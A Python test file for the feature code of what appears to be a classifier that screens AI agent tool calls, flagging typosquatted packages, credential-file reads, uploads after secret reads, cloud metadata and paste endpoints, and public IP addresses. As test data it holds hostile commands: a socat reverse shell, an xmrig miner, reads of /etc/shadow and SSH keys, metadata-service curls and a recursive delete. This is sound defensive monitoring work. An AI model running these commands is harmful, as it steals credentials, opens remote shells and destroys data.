"""The known-name marks: packages (exact names, near misses), sensitive files and
endpoints, and the wide features they add."""

from __future__ import annotations

import dataclasses
import json

import numpy as np
import pytest
from wide_only import WideOnly

from gated.engine.config import ModelConfig
from gated.engine.known_names import (
    KNOWN_PACKAGES,
    NEAR_MIN_CHARS,
    NameIndex,
    _osa_one,
    egress_call,
    endpoint_kind,
    path_place,
    public_address,
    sensitive_file,
)
from gated.engine.tokenizer import source_batch
from gated.engine.wide import _bucket, call_destination, structured_features
from gated.engine.wide_pair import destination_row, pair_features
from gated.traffic import POOLS


def _call(tool: str, **args: object) -> str:
    return f"{tool} {json.dumps(args)}"


def test_one_edit_is_insertion_deletion_substitution_or_neighbour_swap() -> None:
    assert _osa_one("requests", "reqeusts")  # swap
    assert _osa_one("colorama", "colourama")  # insertion
    assert _osa_one("urllib3", "urlib3")  # deletion
    assert _osa_one("django", "djanga")  # substitution
    assert _osa_one("django", "dajngo")  # neighbours swapped
    assert not _osa_one("django", "dnajgo")  # a swap that is not of neighbours: 2 edits
    assert not _osa_one("numpy", "numpyyy")
    assert not _osa_one("flask", "flask2x")
    assert not _osa_one("lodash", "ldoahs")


def test_near_miss_against_a_brute_force_scan() -> None:
    """The symmetric-delete index finds exactly what comparing with every name finds."""
    index = NameIndex(KNOWN_PACKAGES)
    rng = np.random.default_rng(0)
    alphabet = "abcdefghijklmnopqrstuvwxyz-3"
    names = sorted(KNOWN_PACKAGES)
    probes = []
    for _ in range(400):
        name = names[rng.integers(len(names))]
        i = int(rng.integers(len(name)))
        edit = rng.integers(4)
        c = alphabet[rng.integers(len(alphabet))]
        probes.append([name[:i] + c + name[i:], name[:i] + name[i + 1:],
                       name[:i] + c + name[i + 1:],
                       name[:i] + name[i + 1:i + 2] + name[i:i + 1] + name[i + 2:]][edit])
    probes += ["server", "polars", "zzzzzz", "reacct", "py", ""]
    for token in probes:
        brute = sorted(n for n in KNOWN_PACKAGES if len(n) >= NEAR_MIN_CHARS and n != token
                       and _osa_one(token, n))
        expected = brute[0] if brute and token not in KNOWN_PACKAGES \
            and len(token) >= NEAR_MIN_CHARS else None
        assert index.near(token) == expected, token


def test_every_typosquat_of_the_stream_is_a_near_miss_and_no_real_package_is() -> None:
    """The benchmark's stream (gated/traffic/): its typosquats, trained and held out,
    imitate packages of the list; its real packages are on it."""
    index = NameIndex(KNOWN_PACKAGES)
    for pool in ("pysquat", "jssquat"):
        for half in POOLS[pool]:
            for name in half:
                assert index.near(name) is not None and name not in index.names, name
    for pool in ("pyname", "jsname"):
        for half in POOLS[pool]:
            for name in half:
                assert name in index.names and index.near(name) is None, name


def test_classify_cuts_version_pins_and_skips_what_is_not_a_name() -> None:
    index = NameIndex(["requests", "react", "lodash"])
    assert index.classify("reqeusts==2.31.0") == (False, True)
    assert index.classify("react@^18.2.0") == (True, False)
    assert index.classify("npm install lodash lodahs") == (True, True)
    assert index.classify("https://example.com/lodahs?x=1") == (False, False)
    assert index.classify("") == (False, False)
    many = " ".join(["lodahs"] * 10_000)
    assert index.classify(many, max_tokens=4) == (False, True)


def test_the_marks_are_wide_features_keyed_by_tool_and_argument() -> None:
    n = 1 << 16
    squat = _call("pkg.install", manager="pip", name="reqeusts==2.0.1")
    real = _call("pkg.install", manager="pip", name="requests==2.0.1")
    s_idx, s_val = structured_features(squat, None, n, 0.0, 0.0, known_scale=0.5)
    r_idx, _ = structured_features(real, None, n, 0.0, 0.0, known_scale=0.5)
    near = _bucket("k|pkg.install|name|near", n)
    assert near in s_idx and near not in r_idx
    assert _bucket("k|pkg.install|name|known", n) in r_idx
    assert _bucket("k|pkg.install|manager|known", n) in s_idx  # pip is a package too
    np.testing.assert_allclose(np.linalg.norm(s_val), 0.5)
    assert structured_features(squat, None, n, 0.0, 0.0, known_scale=0.0)[0].size == 0
    hostile = "pkg.install " + json.dumps({f"a{i}": "lodahs " * 100 for i in range(1000)})
    idx, _ = structured_features(hostile, None, n, 0.0, 0.0, known_scale=0.5)
    assert 0 < idx.size <= 64


def test_source_batch_carries_the_marks_when_configured() -> None:
    squat = _call("pkg.install", manager="npm", name="lodahs")
    on = ModelConfig.tiny()
    assert on.wide_known_names > 0  # the default
    off = dataclasses.replace(on, wide_known_names=0.0)
    n = on.wide_buckets
    near = _bucket("k|pkg.install|name|near", n)
    assert near in source_batch([(squat, None)], on)["wide_idx"][0]
    assert near not in source_batch([(squat, None)], off)["wide_idx"][0]


def test_sensitive_files_by_name_and_by_place() -> None:
    for path in (".env", "/srv/app/.env.production", "config/secrets.yml", "deploy/secrets.json",
                 "config/service-account.json", "/home/a/.ssh/id_ed25519", "/etc/gshadow",
                 "~/.docker/config.json", "/home/a/.netrc", "/home/a/.aws/credentials",
                 "certs/server.pem", "/root/.ssh/ci_deploy_key", "/HOME/A/.KUBE/CONFIG"):
        assert sensitive_file(path), path
    for path in ("config/settings.yml", "config/app.json", "deploy/values.yml", "/etc/hosts",
                 "/home/a/.ssh/known_hosts", "/home/a/.ssh/id_rsa.pub", "src/keys.py",
                 "jobs/tokens.rb", "/home/a/.docker/daemon.json", "environment.md", ""):
        assert not sensitive_file(path), path


def test_the_sensitive_marks_on_the_call_and_in_the_pair_terms_history() -> None:
    n = 1 << 16
    cat = _call("shell.exec", cmd="cat /home/kai/.docker/config.json")
    idx, val = structured_features(cat, None, n, 0.0, 0.0, sensitive_scale=0.7)
    assert list(idx) == [_bucket("f|shell.exec|cmd|sensitive", n)]
    np.testing.assert_allclose(val, [0.7])
    assert structured_features(_call("fs.read", path="src/main.py"), None, n, 0.0, 0.0,
                               sensitive_scale=0.7)[0].size == 0
    post = _call("http.request", method="POST", url="https://x.example/upload")
    secret = [_call("fs.read", path="/w/config/service-account.json"),
              _call("fs.read", path="/w/config/app.json")]
    _, _, h_idx, h_val, h_grp = pair_features(post, secret, 1 << 10, sensitive_scale=0.7)
    mark = _bucket("hf|fs.read|sensitive", 1 << 10)
    assert list(h_idx).count(mark) == 1
    k = list(h_idx).index(mark)
    assert h_val[k] == 0.7 and h_grp[k] == 0  # the secret's entry, not the config's
    assert set(h_val) - {0.7} == {1.0}
    _, _, off_idx, _, _ = pair_features(post, secret, 1 << 10)
    assert mark not in off_idx


def test_the_calls_sensitive_mark_names_the_files_place() -> None:
    """`sensitive_places` on the call: beside the plain mark, the mark with the marked
    file's place, of the same value; a project's secret, a home's credential file and a
    system's get three different keys, a bare name ``none``; a call that names no
    credential file gets neither, and off is as before. The model's batch carries it when
    `ModelConfig.wide_sensitive_call_places` is on and not when off."""
    n = 1 << 16

    def marks(context: str, places: bool) -> dict[int, float]:
        idx, val = structured_features(context, None, n, 0.0, 0.0, sensitive_scale=4.0,
                                       sensitive_places=places)
        return dict(zip(idx.tolist(), val.tolist(), strict=True))

    plain = _bucket("f|fs.read|path|sensitive", n)
    for path, place in (("config/secrets.yml", "relative"), ("/etc/gshadow", "system"),
                        ("/home/quinn/.netrc", "home-dot"), (".env", "none")):
        placed = _bucket(f"f|fs.read|path|sensitive|{place}", n)
        assert marks(_call("fs.read", path=path), True) == {plain: 4.0, placed: 4.0}, path
        assert marks(_call("fs.read", path=path), False) == {plain: 4.0}, path
    keys = {_bucket(f"f|fs.read|path|sensitive|{p}", n) for p in ("relative", "system",
                                                                  "home-dot", "none")}
    assert len(keys) == 4
    assert marks(_call("fs.read", path="/etc/hosts"), True) == {}
    # two credential files in one command: each place once, the plain mark once
    both = marks(_call("shell.exec", cmd="cat /etc/shadow ~/.ssh/id_rsa /etc/gshadow"), True)
    assert both == {_bucket("f|shell.exec|cmd|sensitive", n): 4.0,
                    _bucket("f|shell.exec|cmd|sensitive|system", n): 4.0,
                    _bucket("f|shell.exec|cmd|sensitive|home-dot", n): 4.0}
    _assert_the_batch_carries_it_by_default(_call("fs.read", path="/etc/gshadow"),
                                            "f|fs.read|path|sensitive|system",
                                            "wide_sensitive_call_places")


def _assert_the_batch_carries_it_by_default(call: str, name: str, switch: str) -> None:
    """The model's batch for `call` holds the feature `name` under flint's defaults (where
    the boolean ModelConfig field `switch` is on) and not with `switch` off."""
    on = ModelConfig.flint()
    mark = _bucket(name, on.wide_buckets)
    off = dataclasses.replace(on, **{switch: False})
    assert getattr(on, switch)
    assert mark in source_batch([(call, None)], on)["wide_idx"][0]
    assert mark not in source_batch([(call, None)], off)["wide_idx"][0]


def test_the_sensitive_mark_names_the_files_place() -> None:
    """`sensitive_places`: a credential file's history entry also gets the mark with the
    file's place, in that entry's group, beside the plain mark; the places are told apart
    (a project's secret is not a system key), other files get neither, and off is as
    before."""
    n = 1 << 14
    post = _call("http.request", method="POST", url="https://x.example/upload")
    reads = [_call("fs.read", path="/home/kai/proj/.env"), _call("fs.read", path="README.md"),
             _call("fs.read", path="/root/.ssh/id_rsa")]
    _, _, h_idx, h_val, h_grp = pair_features(post, reads, n, sensitive_scale=4.0,
                                              sensitive_places=True)
    plain = _bucket("hf|fs.read|sensitive", n)
    project = _bucket(f"hf|fs.read|sensitive|{path_place('/home/kai/proj/.env')}", n)
    system = _bucket(f"hf|fs.read|sensitive|{path_place('/root/.ssh/id_rsa')}", n)
    assert path_place("/root/.ssh/id_rsa") == "system" and project != system
    by_key = {int(k): (float(v), int(g)) for k, v, g in zip(h_idx, h_val, h_grp, strict=True)
              if k in (project, system)}
    assert by_key == {project: (4.0, 0), system: (4.0, 2)}  # the .env's entry, the key's
    assert sorted(h_grp[h_idx == plain].tolist()) == [0, 2]  # the plain mark stays
    assert not (set(h_idx[h_grp == 1].tolist()) & {plain, project, system})  # README: none
    without = pair_features(post, reads, n, sensitive_scale=4.0)[2]
    assert project not in without and system not in without
    assert pair_features(post, reads, n, sensitive_places=True)[2].size == \
        pair_features(post, reads, n)[2].size  # no mark at all: no place either


def test_egress_calls_are_bodies_and_sending_tools() -> None:
    for tool, args in (("http.request", {"method": "POST"}), ("http.request", {"method": "put"}),
                       ("api.call", {"method": "PATCH"}), ("email.send", {}),
                       ("slack.postMessage", {}), ("s3_upload", {}), ("sms-send", {})):
        assert egress_call(tool, args), (tool, args)
    for tool, args in (("http.request", {"method": "GET"}), ("http.request", {"method": 7}),
                       ("fs.read", {}), ("git.push", {}), ("browser.open", {}),
                       ("postgres.query", {}), ("shell.exec", {"cmd": "curl -X POST x"})):
        assert not egress_call(tool, args), (tool, args)


def test_the_egress_key_joins_the_call_site_at_unit_norm() -> None:
    n = 1 << 10
    hist = [_call("fs.read", path="/w/.env")]
    post = _call("http.request", method="POST", url="https://x.example/upload")
    c_idx, c_val, *_ = pair_features(post, hist, n, egress_scale=2.0)
    assert list(c_idx) == [_bucket(k, n) for k in
                           ("p|http.request", "p|http.request|POST", "p|egress")]
    np.testing.assert_allclose(c_val, np.array([1.0, 1.0, 2.0]) / np.sqrt(6.0))
    c_idx, c_val, *_ = pair_features(post, hist, n)  # off: the site as before
    np.testing.assert_allclose(c_val, [0.5 ** 0.5] * 2)
    assert _bucket("p|egress", n) not in c_idx
    get = _call("http.request", method="GET", url="https://x.example/")
    assert _bucket("p|egress", n) not in pair_features(get, hist, n, egress_scale=2.0)[0]
    mail = _call("email.send", to="a@b.example", subject="hi")
    c_idx, c_val, *_ = pair_features(mail, hist, n, egress_scale=1.0)
    assert list(c_idx) == [_bucket("p|email.send", n), _bucket("p|egress", n)]
    assert np.linalg.norm(c_val) == pytest.approx(1.0)


def test_where_a_call_sends_to() -> None:
    assert call_destination({"url": "https://jira.acme.io/issues/7"}) == "acme.io"
    assert call_destination({"url": "http://u:pw@CI.Acme.IO:8443/x?y=1"}) == "acme.io"
    assert call_destination({"to": "bob@Mail.Acme.io", "url": "https://x.example/"}) \
        == "acme.io"  # a mail's recipient before any URL in it
    assert call_destination({"url": "http://localhost:2379/v2"}) == "localhost"
    assert call_destination({"url": "http://185.173.83.9:4444/x"}) == "185.173.83.9"
    assert call_destination({"url": "http://[FD00:EC2::254]:80/latest"}) == "fd00:ec2::254"
    assert call_destination({"to": "not a mail", "url": 7}) is None
    assert call_destination({"path": "/w/.env"}) is None


def test_the_destination_key_adds_to_the_site_outside_its_norm() -> None:
    """On a call that can carry data out, ``p|dest|<where>`` of the configured value is
    appended after the site's normalisation: the site's own keys keep their values."""
    n = 1 << 10
    hist = [_call("fs.read", path="/w/.env")]
    post = _call("http.request", method="POST", url="https://jira.acme.io/issues/7")
    c_idx, c_val, *_ = pair_features(post, hist, n, egress_scale=1.0, destination_scale=0.25)
    assert list(c_idx) == [_bucket(k, n) for k in ("p|http.request", "p|http.request|POST",
                                                   "p|egress", "p|dest|acme.io")]
    np.testing.assert_allclose(c_val, [3 ** -0.5] * 3 + [0.25])
    mail = _call("email.send", to="bob@acme.io", subject="hi")
    assert pair_features(mail, hist, n, destination_scale=0.25)[0][-1] == \
        _bucket("p|dest|acme.io", n)  # mail and uploads to the org share the key
    get = _call("http.request", method="GET", url="https://jira.acme.io/issues/7")
    assert _bucket("p|dest|acme.io", n) not in pair_features(get, hist, n,
                                                             destination_scale=0.25)[0]
    assert _bucket("p|dest|acme.io", n) not in pair_features(post, hist, n)[0]  # off


def test_the_destination_rows_hold_the_key_only_after_a_credential_read() -> None:
    """With `destination_rows`, the key goes to one of the rows after the call table's
    `buckets` (the site's keys hash as without them), and only a call whose history
    reads a credential file gets it: after an ordinary read the upload is the site alone."""
    n, rows = 1 << 10, 64
    post = _call("http.request", method="POST", url="https://jira.acme.io/issues/7")
    secret = [_call("fs.read", path="/w/app.yml"), _call("fs.read", path="/w/.env")]
    c_idx, c_val, *_ = pair_features(post, secret, n, egress_scale=1.0, destination_scale=1.0,
                                     destination_rows=rows)
    assert list(c_idx[:-1]) == [_bucket(k, n) for k in ("p|http.request",
                                                       "p|http.request|POST", "p|egress")]
    assert c_idx[-1] == destination_row("acme.io", n, rows) and n <= c_idx[-1] < n + rows
    assert c_val[-1] == 1.0
    for history in ([_call("fs.read", path="/w/app.yml")], None,
                    [_call("fs.write", path="/w/notes.md")]):
        idx = pair_features(post, history, n, egress_scale=1.0, destination_scale=1.0,
                            destination_rows=rows)[0]
        assert len(idx) == 3 and max(idx) < n
    mail = _call("email.send", to="eve@outside.example", subject="hi")
    assert pair_features(mail, secret, n, destination_scale=1.0, destination_rows=rows
                         )[0][-1] == destination_row("outside.example", n, rows)
    assert {destination_row(f"h{k}.example", n, rows) for k in range(2000)} == set(
        range(n, n + rows))  # every destination row reachable, no site row
    assert destination_row("acme.io", n) == _bucket("p|dest|acme.io", n)  # no rows: as before


def test_the_destination_key_lets_the_org_upload_after_a_secret_read() -> None:
    """The history rule is "a secret read, then data sent outside". A wide-only learner
    that saw uploads after a secret read blocked when they went to a fresh outside host
    and allowed when they went to the org's own hosts: with the destination key, an
    upload to another org host after a secret read scores well above one to an unseen
    outside host, which stays blocked; without it the two look alike to the pair term."""
    rng = np.random.default_rng(0)
    secret, config = [_call("fs.read", path="/w/.env")], [_call("fs.read", path="/w/app.yml")]

    def logits(dest: float) -> tuple[float, float]:
        wide = WideOnly(wide_pair_rank=4, wide_sensitive_files=1.0, wide_egress_calls=1.0,
                        wide_pair_destination=dest)
        for k in range(400):
            org = bool(rng.random() < 0.5)
            host = f"{('ci', 'jira', 'wiki')[k % 3]}.acme.io" if org else f"h{k}.example"
            post = _call("http.request", method="POST", url=f"https://{host}/x{k}")
            if rng.random() < 0.5:
                wide.learn(post, secret, 1.0 if org else 0.0)
            else:
                wide.learn(post, config, 1.0)
        org_post = _call("http.request", method="POST", url="https://grafana.acme.io/x")
        out_post = _call("http.request", method="POST", url="https://new-site.example/x")
        return wide.logit(org_post, secret), wide.logit(out_post, secret)

    (org0, out0), (org1, out1) = logits(0.0), logits(0.25)
    print(f"after a secret read, org / outside upload: without the key {org0:+.2f} / "
          f"{out0:+.2f}, with it {org1:+.2f} / {out1:+.2f}")
    assert out1 < 0 and org1 - out1 > org0 - out0 + 1.0


def test_the_domain_key_names_where_any_call_reaches() -> None:
    """``d|<domain>`` of the configured value on every call that names a destination,
    whatever its tool or method; none on a call that names none, none when off."""
    n = 1 << 12
    get = _call("http.request", method="GET", url="https://api.github.com/repos/x/y")
    idx, val = structured_features(get, None, n, 0.0, 0.0, domain_scale=0.3)
    assert list(idx) == [_bucket("d|github.com", n)] and list(val) == [0.3]
    for call, domain in ((_call("browser.open", url="https://docs.python.org/3/"), "python.org"),
                         (_call("email.send", to="bob@acme.io", subject="hi"), "acme.io")):
        idx, val = structured_features(call, None, n, 0.3, 0.0, 1.0, domain_scale=0.3)
        assert _bucket("d|" + domain, n) in idx
        assert val[list(idx).index(_bucket("d|" + domain, n))] == 0.3  # outside any norm
    assert len(structured_features(_call("fs.read", path="/w/a.py"), None, n, 0.0, 0.0,
                                   domain_scale=0.3)[0]) == 0
    assert len(structured_features(get, None, n, 0.0, 0.0)[0]) == 0  # off by default
    cfg = dataclasses.replace(ModelConfig.tiny(), wide_buckets=n)
    assert _bucket("d|github.com", n) in source_batch([(get, None)], cfg)["wide_idx"][0]


def test_the_domain_key_learns_an_allow_list_by_domain() -> None:
    """After a policy that lets GETs reach two domains only, a wide-only learner that saw
    a few dozen GETs (allowed on those two, blocked elsewhere) scores a GET to a host and
    path of an allowed domain it never saw, and one to a blocked domain it saw, further
    apart with the domain key than without: the URL's words say the domain too, but
    diluted by every other word of the call."""
    rng = np.random.default_rng(0)
    allowed, blocked = ("github.com", "python.org"), ("datadoghq.com", "segment.io",
                                                     "stripe.com", "openai.com")

    def gap(domains: float) -> float:
        wide = WideOnly(wide_call_domains=domains,  # the key alone, not its mark
                        wide_novel_destinations=0.0)
        for k in range(60):
            ok = bool(rng.random() < 0.4)
            domain = (allowed if ok else blocked)[k % (2 if ok else 4)]
            url = f"https://{('api', 'www', 'docs')[k % 3]}.{domain}/v{k % 3}/items/{k}"
            wide.learn(_call("http.request", method="GET", url=url), None, 1.0 if ok else 0.0)
        z_ok = wide.logit(_call("http.request", method="GET",
                                url="https://uploads.github.com/assets/7731"))
        z_no = wide.logit(_call("http.request", method="GET",
                                url="https://metrics.stripe.com/assets/7731"))
        return z_ok - z_no

    without, with_key = gap(0.0), gap(0.3)
    print(f"allowed minus blocked domain, unseen host and path: without the key "
          f"{without:+.2f}, with it {with_key:+.2f}")
    assert with_key > without + 0.5


def test_the_egress_mark_carries_what_uploads_taught_to_mail() -> None:
    """A wide-only learner that saw the history rule only on HTTP uploads (a POST after a
    secret read blocked, after a config read allowed): with the egress mark, mail after a
    secret read scores lower than mail after a config read; without it the pair term has
    nothing to carry the lesson across channels."""
    rng = np.random.default_rng(0)

    def gap(egress: float) -> float:
        wide = WideOnly(wide_pair_rank=4, wide_sensitive_files=1.0, wide_egress_calls=egress)
        for k in range(300):
            post = _call("http.request", method="POST", url=f"https://h{k % 7}.example/x{k}")
            secret = bool(rng.random() < 0.5)
            read = ".env" if secret else "config/app.yml"
            wide.learn(post, [_call("fs.read", path=f"/w/{read}")], 0.0 if secret else 1.0)
        mail = _call("email.send", to="x@y.example", subject="s")
        z = [wide.logit(mail, [_call("fs.read", path=f"/w/{read}")])
             for read in (".env", "config/app.yml")]
        return z[1] - z[0]  # how much lower mail scores after the secret read

    without, with_mark = gap(0.0), gap(1.0)
    print(f"mail after config minus after secret: without the mark {without:+.3f}, "
          f"with it {with_mark:+.3f}")
    assert with_mark > 1.0 and with_mark > without + 1.0


def test_endpoint_kinds_of_metadata_services_control_ports_and_paste_hosts() -> None:
    for url in ("http://169.254.169.254/latest/meta-data/", "http://100.100.100.200/x",
                "http://169.254.170.2/v2/credentials/a", "http://metadata.google.internal/v1",
                "http://[fd00:ec2::254]/latest", "HTTP://169.254.9.9/", "http://a@169.254.1.1/",
                "http://127.0.0.1:2375/containers/json", "https://node7:10250/pods",
                "http://localhost:2379/v2/keys"):
        assert endpoint_kind(url) == "metadata", url
    for url in ("https://pastebin.com/raw/1", "https://termbin.com", "http://www.hastebin.com/x",
                "https://file.io/?x=1", "https://0x0.st:443/a"):
        assert endpoint_kind(url) == "paste", url
    for url in ("https://api.stripe.com/v1/charges", "http://localhost:8080/", "ls -la",
                "pastebin.com/x", "https://notpastebin.com/x", "https://pastebin.com.evil.io/",
                "http://10.0.0.7:23750/", "http://x:" + "9" * 5000 + "/", "", "://", "http://"):
        assert endpoint_kind(url) is None, url[:40]


def test_the_endpoint_marks_name_the_kind_alone_and_with_tool_and_method() -> None:
    n = 1 << 16
    post = _call("http.request", method="POST", url="https://termbin.com/up")
    idx, val = structured_features(post, None, n, 0.0, 0.0, endpoint_scale=0.7)
    assert list(idx) == [_bucket("e|paste", n), _bucket("e|http.request|POST|paste", n)]
    np.testing.assert_allclose(val, [0.7, 0.7])
    get = _call("http.request", method="GET", url="https://termbin.com/up")
    assert list(structured_features(get, None, n, 0.0, 0.0, endpoint_scale=0.7)[0]) == [
        _bucket("e|paste", n), _bucket("e|http.request|GET|paste", n)]
    shell = _call("shell.exec", cmd="curl -s http://169.254.170.2/v2/x && curl "
                                    "http://169.254.169.254/ https://0x0.st")
    idx, _ = structured_features(shell, None, n, 0.0, 0.0, endpoint_scale=0.7)
    assert sorted(idx) == sorted(_bucket(name, n) for k in ("metadata", "paste")
                                 for name in (f"e|{k}", f"e|shell.exec||{k}"))
    assert structured_features(post, None, n, 0.0, 0.0)[0].size == 0  # off by default
    plain = _call("http.request", method="POST", url="https://api.stripe.com/v1/charges")
    assert structured_features(plain, None, n, 0.0, 0.0, endpoint_scale=0.7)[0].size == 0
    hostile = _call("shell.exec", cmd=" ".join(["http://169.254.169.254/"] * 5000))
    assert structured_features(hostile, None, n, 0.0, 0.0, endpoint_scale=0.7)[0].size == 2


def test_a_public_address_is_one_of_the_internets_anywhere_in_a_token() -> None:
    """`public_address`: a dotted quad inside any token (a miner's pool, socat's target, a
    /dev/tcp path, a URL) or a whole-token IPv6 address, when the internet routes it; a
    loopback, private, link-local, shared or documentation address, a version string, an
    octet over 255 or a host name is not one."""
    for token in ("146.75.143.199:6666", "tcp:23.61.2.54:5555", "/dev/udp/23.220.74.132/6666",
                  "8.8.8.8", "http://8.8.8.8/x", "user@45.33.32.156", "[2606:4700::1111]",
                  "http://[2606:4700::1111]:80/x", "http://[2606:4700::1111]/index.html",
                  "2001:4860:4860::8888"):
        assert public_address(token), token
    for token in ("127.0.0.1:5000", "10.0.0.7", "192.168.1.20:22", "169.254.169.254",
                  "100.64.0.1", "203.0.113.9", "1.2.3.4.5", "v2.0.1", "999.1.1.1",
                  "pool.ledger.xyz:3333", "localhost:3000", "fd00:ec2::254", "::1", "abc:def",
                  "a:b:c", "", "9" * 5000):
        assert not public_address(token), token[:40]


def test_the_endpoint_marks_kind_address_names_a_public_address_in_any_tool() -> None:
    """`endpoint_addresses`: a token holding a public address gets the endpoint marks of
    kind ``address`` (alone and with tool and method), in a shell command as in a URL, once
    however many addresses; a private address gets none; off, as before. The model's
    batch carries it when `ModelConfig.wide_endpoint_addresses` is on and not when off."""
    n = 1 << 16

    def marks(context: str, on: bool = True) -> list[int]:
        return sorted(structured_features(context, None, n, 0.0, 0.0, endpoint_scale=0.7,
                                          endpoint_addresses=on)[0].tolist())

    def kind(k: str, tool: str, method: str = "") -> list[int]:
        return sorted([_bucket(f"e|{k}", n), _bucket(f"e|{tool}|{method}|{k}", n)])

    miner = _call("shell.exec", cmd="./xmrig --donate-level 1 -o 146.75.143.199:6666")
    assert marks(miner) == kind("address", "shell.exec")
    two = _call("shell.exec", cmd="socat tcp:23.61.2.54:5555 exec:/bin/sh; ping 8.8.8.8")
    assert marks(two) == kind("address", "shell.exec")
    post = _call("http.request", method="POST", url="http://45.33.32.156:2375/containers")
    assert marks(post) == sorted(kind("address", "http.request", "POST")
                                 + kind("metadata", "http.request", "POST"))
    assert marks(_call("shell.exec", cmd="nc -zv 10.0.0.7 5432")) == []
    assert marks(miner, on=False) == []
    assert marks(post, on=False) == kind("metadata", "http.request", "POST")
    _assert_the_batch_carries_it_by_default(miner, "e|address", "wide_endpoint_addresses")


def test_every_blocked_endpoint_of_the_traffic_pools_has_its_mark() -> None:
    """The benchmark's stream and probes draw metadata and paste hosts from these pools (the
    held-out halves included): the lists in known_names.py name them all, as any such
    list from the providers' documentation would; what the marks mean is still learned
    from the stream's examples (docs/learning.md, "Endpoint marks")."""
    for kind, pool in (("metadata", "meta"), ("paste", "paste")):
        for host in POOLS[pool][0] + POOLS[pool][1]:
            assert endpoint_kind(f"http://{host}/x") == kind, host
    for pool in ("api", "docs", "local", "git"):
        for host in POOLS[pool][0] + POOLS[pool][1]:
            assert endpoint_kind(f"https://{host}/x") is None, host


def test_the_endpoint_mark_carries_what_one_metadata_service_taught_to_another() -> None:
    """A wide-only learner that saw blocked reads of one metadata service (AWS's, by its
    address) among allowed reads of ordinary APIs: with the marks, the same read of GCP's
    (never seen, by its name) scores well below an ordinary API it never saw either;
    without them it shares its shape and path with the APIs, and little else."""
    rng = np.random.default_rng(0)

    def gap(endpoints: float) -> float:
        wide = WideOnly(wide_pair_rank=0, wide_endpoints=endpoints)
        for k in range(300):
            meta = bool(rng.random() < 0.3)
            url = (f"http://169.254.169.254/v1/items/{k}" if meta
                   else f"http://api.h{k % 9}.example/v1/items/{k}")
            wide.learn(_call("http.request", method="GET", url=url), None, 0.0 if meta else 1.0)
        z = [wide.logit(_call("http.request", method="GET", url=u))
             for u in ("http://metadata.google.internal/v1/items/3",
                       "http://api.unseen.example/v1/items/3")]
        return z[1] - z[0]  # how much lower the unseen metadata service scores

    without, with_mark = gap(0.0), gap(1.0)
    print(f"unseen API minus unseen metadata service: without the marks {without:+.3f}, "
          f"with them {with_mark:+.3f}")
    assert with_mark > 1.0 and with_mark > without + 1.0


def test_path_places_follow_the_file_system_hierarchy() -> None:
    expect = {"/": "root", "/etc/shadow": "system", "/srv/hr": "system", "/root/.ssh/k": "system",
              "/tmp/x": "tmp", "/var/tmp/y": "tmp", "~": "home", "/home/carol": "home",
              "/Users/kai/": "home", "~/.ssh/id_ed25519": "home-dot",
              "/home/zoe/.docker/config.json": "home-dot", "~/Documents/a": "home-files",
              "/home/a/src/app/.env": "home-files", "../../x": "parent", "..": "parent",
              "build/out-1": "relative", "./run.sh": "relative", "/data/x": "other",
              "'/etc/hosts'": "system"}
    for token, place in expect.items():
        assert path_place(token) == place, token
    for token in ("rm", "-rf", "--force", "https://a.example/x/y", "", "'", "a\x00/b"):
        assert path_place(token) is None, token


def test_path_place_marks_name_the_place_alone_and_with_the_command() -> None:
    n = 1 << 16
    idx, val = structured_features(_call("shell.exec", cmd="rm -Rf /srv/hr"), None, n, 0.0,
                                   0.0, place_scale=0.6)
    assert list(idx) == [_bucket(k, n) for k in ("l|shell.exec|cmd|system",
                                                 "l|shell.exec|cmd|rm|system")]
    np.testing.assert_allclose(val, [0.6 / np.sqrt(2)] * 2)
    idx, _ = structured_features(_call("fs.read", path="~/.netrc"), None, n, 0.0, 0.0,
                                 place_scale=0.6)
    assert list(idx) == [_bucket("l|fs.read|path|home-dot", n)]  # one word: no first word
    assert structured_features(_call("fs.read", path="~/.netrc"), None, n, 0.0,
                               0.0)[0].size == 0
    hostile = _call("shell.exec", cmd=" ".join(f"/etc/f{i} ../g{i}" for i in range(5000)))
    idx, val = structured_features(hostile, None, n, 0.0, 0.0, place_scale=0.6)
    assert len(idx) == 4 and np.linalg.norm(val) == pytest.approx(0.6)
